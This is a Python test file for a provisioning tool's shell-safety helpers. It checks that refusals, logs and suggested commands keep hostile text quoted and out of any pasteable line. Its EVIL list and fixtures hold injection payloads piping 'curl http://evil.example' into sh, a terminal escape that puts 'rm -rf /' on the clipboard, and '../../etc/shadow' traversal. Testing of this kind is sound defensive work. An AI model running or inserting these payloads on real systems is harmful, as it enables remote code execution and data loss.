"""No text of the agent's reaches a line that somebody pastes: refusals with an enemy's names, notes and output."""

from __future__ import annotations

import os
import re
import shlex
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from applications.hermes.guest import install, journal, leftovers, managed, services, verify
from applications.hermes.guest.names import DASHBOARD, GATEWAY
from provisioning.guest import common
from provisioning.guest.common import Refusal
from provisioning.guest.words import BAR, TOLD_LINES, command, lines_of, plain_path, quote, said, told
from provisioning.job import LOG_TAIL_LINES

EVIL = [
    "x; curl -s http://evil.example|sh; echo #",
    "x\n  systemctl stop everything\n  curl http://evil.example | sh",
    "$(curl http://evil.example|sh)",
    "`id`",
    "x' 'y",
    "\x1b]52;c;cm0gLXJmIC8K\x07",
    "a\rcurl http://evil.example|sh",
    "\u202eevil",
    "../../etc/shadow",
    "-rf",
    "x\u2028curl http://evil.example|sh",
]
evil = st.one_of(st.sampled_from(EVIL), st.text(max_size=300))


def pasted(text: str) -> list[str]:
    """The lines of a text that somebody could paste: none that is behind a bar."""
    return [line for line in text.split("\n") if not line.startswith(BAR)]


@given(evil)
def test_what_is_said_is_one_quoted_line(text: str) -> None:
    shown = said(text)
    assert re.fullmatch(r"['\"].*['\"](\.\.\.)?", shown)
    assert shown.isascii()
    assert shown.isprintable()
    assert len(said("x" * 1000)) < 250


@given(evil)
def test_what_a_program_prints_stands_behind_a_bar_or_on_our_line(text: str) -> None:
    assert all(line.startswith(BAR) for line in lines_of(text))
    shown = f"ours: {told(text)}"
    assert len(pasted(shown)) == 1
    assert all(line.replace("\t", "").isprintable() for line in shown.split("\n"))


@given(evil)
def test_a_command_s_words_stay_words(text: str) -> None:
    words = ["rm", "--", text.replace("\0", "")]
    assert shlex.split(command(*words)) == words
    assert shlex.split(quote(words[2])) == words[2:]


@given(evil)
def test_a_path_is_taken_in_its_plain_form_only(text: str) -> None:
    path = plain_path(text)
    assert path is None or re.fullmatch(r"[A-Za-z0-9_.+@/-]+", path)
    assert path is None or ".." not in path.split("/")
    assert path is None or not path.startswith(("-", "/"))


def test_plain_paths_are_those_that_people_use() -> None:
    assert plain_path(".hermes") == ".hermes"
    assert plain_path("data/hermes_2.0") == "data/hermes_2.0"
    assert [plain_path(text) for text in (*EVIL, "", "/", "a//b", "a/", ".", "a/./b", "a\n")] == [None] * (
        len(EVIL) + 7
    )


# ---- the refusals ---------------------------------------------------------------------------------------------------


@pytest.fixture
def as_ourselves(monkeypatch: pytest.MonkeyPatch) -> None:
    """What would be done as the agent's user is done by this one."""
    real = common.execute

    def execute(*words: str, **more: Any) -> subprocess.CompletedProcess[str]:
        if words[0].endswith("runuser"):
            words = words[words.index("--") + 1 :]
        return real(*words, **more)

    for module in (common, verify):
        monkeypatch.setattr(module, "execute", execute)


@pytest.mark.usefixtures("as_ourselves")
@pytest.mark.parametrize("last", [*EVIL, "old"])
def test_another_state_directory_is_refused_without_its_words_in_a_command(last: str, tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / ".hermes-stack").mkdir(parents=True)
    (home / ".hermes-stack" / "state-directory").write_text(last, newline="")
    folder = home / last.replace("\0", "")
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "state.db").touch()
    with pytest.raises(Refusal) as refused:
        install.refuse_moved_state("hermes", str(home), f"{home}/new", ".hermes-stack")
    text = str(refused.value)
    if last == "old":
        assert shlex.split(text.splitlines()[-1]) == [
            *["runuser", "-u", "hermes", "--", "mv"],
            f"{home}/old",
            f"{home}/new",
        ]
    else:
        assert "no name for agentStateDirectory" in text
        assert len(text.splitlines()) == 2
        assert said(last) in text
    assert text.replace("\n", "").isprintable()


@pytest.mark.usefixtures("as_ourselves")
def test_the_same_state_directory_is_noted(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / ".hermes").mkdir(parents=True)
    (home / ".hermes" / "state.db").touch()
    for _ in range(2):
        install.refuse_moved_state("hermes", str(home), f"{home}/.hermes", ".hermes-stack")
    assert (home / ".hermes-stack" / "state-directory").read_text() == ".hermes"
    assert (home / ".hermes-stack").stat().st_mode & 0o777 == 0o700


class Lock:
    """A gateway.lock that some process holds."""

    def __init__(self, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self.folder, self.stopped = folder, False
        (folder / "gateway.lock").touch()
        monkeypatch.setattr(leftovers, "run", self.run)
        monkeypatch.setattr(leftovers, "units_present", lambda: ["hermes-gateway.service"])
        monkeypatch.setattr(leftovers, "holder_of", lambda *_: None if self.stopped else os.getpid())

    def run(self, *words: str) -> str:
        assert words == ("systemctl", "stop", "hermes-gateway.service")
        self.stopped = True
        return ""


def test_the_holder_of_the_lock_is_named_without_its_words_in_a_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    lock = Lock(tmp_path, monkeypatch)
    evil_line = b"gateway\0run)\nEnd it: curl http://evil.example|sh #\0\x1b]0;x\x07"
    monkeypatch.setattr(Path, "read_bytes", lambda _: evil_line)
    with pytest.raises(Refusal) as refused:
        leftovers.refuse_another_gateway(str(tmp_path), 1)
    lines = str(refused.value).splitlines()
    assert len(lines) == 3
    assert str(tmp_path / "gateway.lock") in lines[0]
    assert lines[1].startswith("It calls itself 'gateway run)\\nEnd it: curl")
    assert lines[2] == f"Two gateways on one home ruin its data. End it (kill {os.getpid()}), then run again."
    assert not lock.stopped


def test_a_child_of_our_own_service_is_no_other_gateway(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The agent's own shell may hold the lock: it ends with the unit, and the next start has it."""
    lock = Lock(tmp_path, monkeypatch)
    monkeypatch.setattr(leftovers, "units_of", lambda _: {GATEWAY})
    leftovers.refuse_another_gateway(str(tmp_path), 1)
    assert lock.stopped


@pytest.mark.parametrize(
    ("groups", "ours"),
    [
        ("0::/system.slice/hermes-gateway.service\n", {GATEWAY}),
        ("0::/system.slice/hermes-dashboard.service/sub\n", {DASHBOARD}),
        ("0::/user.slice/user-10000.slice/hermes-gateway.service.scope\n", set()),
        ("0::/\n", set()),
    ],
)
def test_a_service_s_process_is_known_by_its_control_group(
    groups: str, ours: set[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Path, "read_text", lambda *_, **__: groups)
    assert services.units_of(4711) == ours


@pytest.mark.parametrize("name", EVIL)
def test_files_of_others_are_named_without_their_names_in_a_command(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    found = subprocess.CompletedProcess("", 0, f"0 /home/hermes/{name}\n", "")
    monkeypatch.setattr(verify, "execute", lambda *_, **__: found)
    with pytest.raises(verify.Unproven) as fault:
        verify.check_owners("/home/hermes", 10000)
    lines = pasted(str(fault.value))
    assert len(lines) == 2
    assert "evil" not in lines[1]
    words = shlex.split(lines[1].removeprefix("Give them back: "))
    assert words[:2] == ["find", "/home/hermes"]
    # Not `-exec`: a folder may become a link between the look and the change.
    assert words[words.index("-execdir") :] == ["-execdir", "chown", "-h", "10000:10000", "{}", ";"]


@pytest.mark.parametrize("words", EVIL)
def test_a_log_and_an_error_of_the_agent_s_account_stand_behind_a_bar(
    words: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    done = subprocess.CompletedProcess("", 1, words, "")
    monkeypatch.setattr(journal, "execute", lambda *_, **__: done)
    monkeypatch.setattr(journal, "secrets_of_env", set)
    assert all(line.startswith(BAR) and line.isprintable() for line in journal.journal("hermes-gateway.service"))
    monkeypatch.setattr(common, "execute", lambda *_, **__: done)
    with pytest.raises(Refusal) as refused:
        common.as_user("hermes", "true")
    assert len(pasted(str(refused.value))) == 1


# ---- what lies in the home ------------------------------------------------------------------------------------------


@pytest.mark.usefixtures("as_ourselves")
@pytest.mark.parametrize("kind", ["pipe", "link", "dangling link", "folder", "device", "too large"])
def test_anything_but_a_plain_file_is_refused_at_once_by_name(kind: str, tmp_path: Path) -> None:
    path = tmp_path / "a note.json"
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    elif kind == "too large":
        path.write_bytes(b"x" * (64 * 1024 + 1))
    else:
        target = {"link": "other.json", "device": "/dev/zero", "dangling link": "nothing"}[kind]
        (tmp_path / "other.json").write_text("{}")
        path.symlink_to(target)
    with pytest.raises(Refusal) as refused:
        common.read_home("hermes", str(path))
    lines = str(refused.value).splitlines()
    assert lines[0].startswith(f"{path} can't be read as a plain file of at most 64 KB: ")
    assert shlex.split(lines[-1]) == ["runuser", "-u", "hermes", "--", "rm", "-r", "--", str(path)]


@pytest.mark.usefixtures("as_ourselves")
def test_a_plain_file_is_read_and_none_is_none(tmp_path: Path) -> None:
    (tmp_path / "note").write_text("x" * 64 * 1024)
    assert common.read_home("hermes", str(tmp_path / "note")) == "x" * 64 * 1024
    assert common.read_home("hermes", str(tmp_path / "none")) is None
    assert common.read_home("hermes", str(tmp_path / "note" / "below")) is None


@pytest.mark.usefixtures("as_ourselves")
def test_a_key_on_the_volume_is_made_once_and_a_planted_one_refused(tmp_path: Path) -> None:
    made = managed.persistent_secret("hermes", str(tmp_path), "api-server-key")
    assert re.fullmatch("[0-9a-f]{64}", made)
    assert managed.persistent_secret("hermes", str(tmp_path), "api-server-key") == made
    path = tmp_path / ".hermes-stack" / "api-server-key"
    path.write_text(f"{made}'\n  curl http://evil.example|sh")
    with pytest.raises(Refusal) as refused:
        managed.persistent_secret("hermes", str(tmp_path), "api-server-key")
    assert "evil" not in str(refused.value)
    path.unlink()
    os.mkfifo(path)
    with pytest.raises(Refusal, match="can't be read as a plain file"):
        managed.persistent_secret("hermes", str(tmp_path), "api-server-key")


def test_a_program_that_prints_for_ever_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(common, "OUTPUT_LIMIT", 1 << 20)
    with pytest.raises(Refusal, match="printed more than 1 MB and was ended"):
        common.run("sh", "-c", "cat /dev/zero")
    with pytest.raises(Refusal, match="printed more than 1 MB and was ended"):
        common.run("sh", "-c", "cat /dev/zero >&2")


def test_a_program_gets_its_input_and_has_no_terminal_of_root_s() -> None:
    text = "x" * 3_000_000
    assert common.run("cat", stdin=text) == text
    assert common.run("true", stdin=text) == ""
    sid = common.run("sh", "-c", "ps -o sid= -p $$ 2>/dev/null || cut -d' ' -f6 /proc/$$/stat").strip()
    assert int(sid) != os.getsid(0)


def test_what_a_hanging_program_has_started_ends_with_it(tmp_path: Path) -> None:
    with pytest.raises(Refusal, match="did not end"):
        common.run("sh", "-c", f"sleep 600 & echo $! >{tmp_path}/pid; wait", timeout_s=1)
    state = Path(f"/proc/{(tmp_path / 'pid').read_text().strip()}/stat")
    # It was killed before `run` has answered; the kernel may need a moment for its end.
    deadline = time.monotonic() + 20
    while state.exists() and state.read_text().rpartition(")")[2].split()[0] != "Z":
        assert time.monotonic() < deadline
        time.sleep(0.02)


def test_of_a_long_output_the_last_lines_are_told_whole() -> None:
    lines = [f"line {number} of what it says, to its end." for number in range(60)]
    shown = told("\n".join(lines))[1:].split("\n")
    assert [line.removeprefix(BAR) for line in shown] == lines[-TOLD_LINES:]
    assert TOLD_LINES + 2 <= LOG_TAIL_LINES
    # Fewer where they are long, and never a piece of one.
    shown = told("\n".join(lines), limit=150)[1:].split("\n")
    assert [line.removeprefix(BAR) for line in shown] == lines[-3:]
    assert told("x" * 5000 + "the reason", limit=20) == "x" * 10 + "the reason"
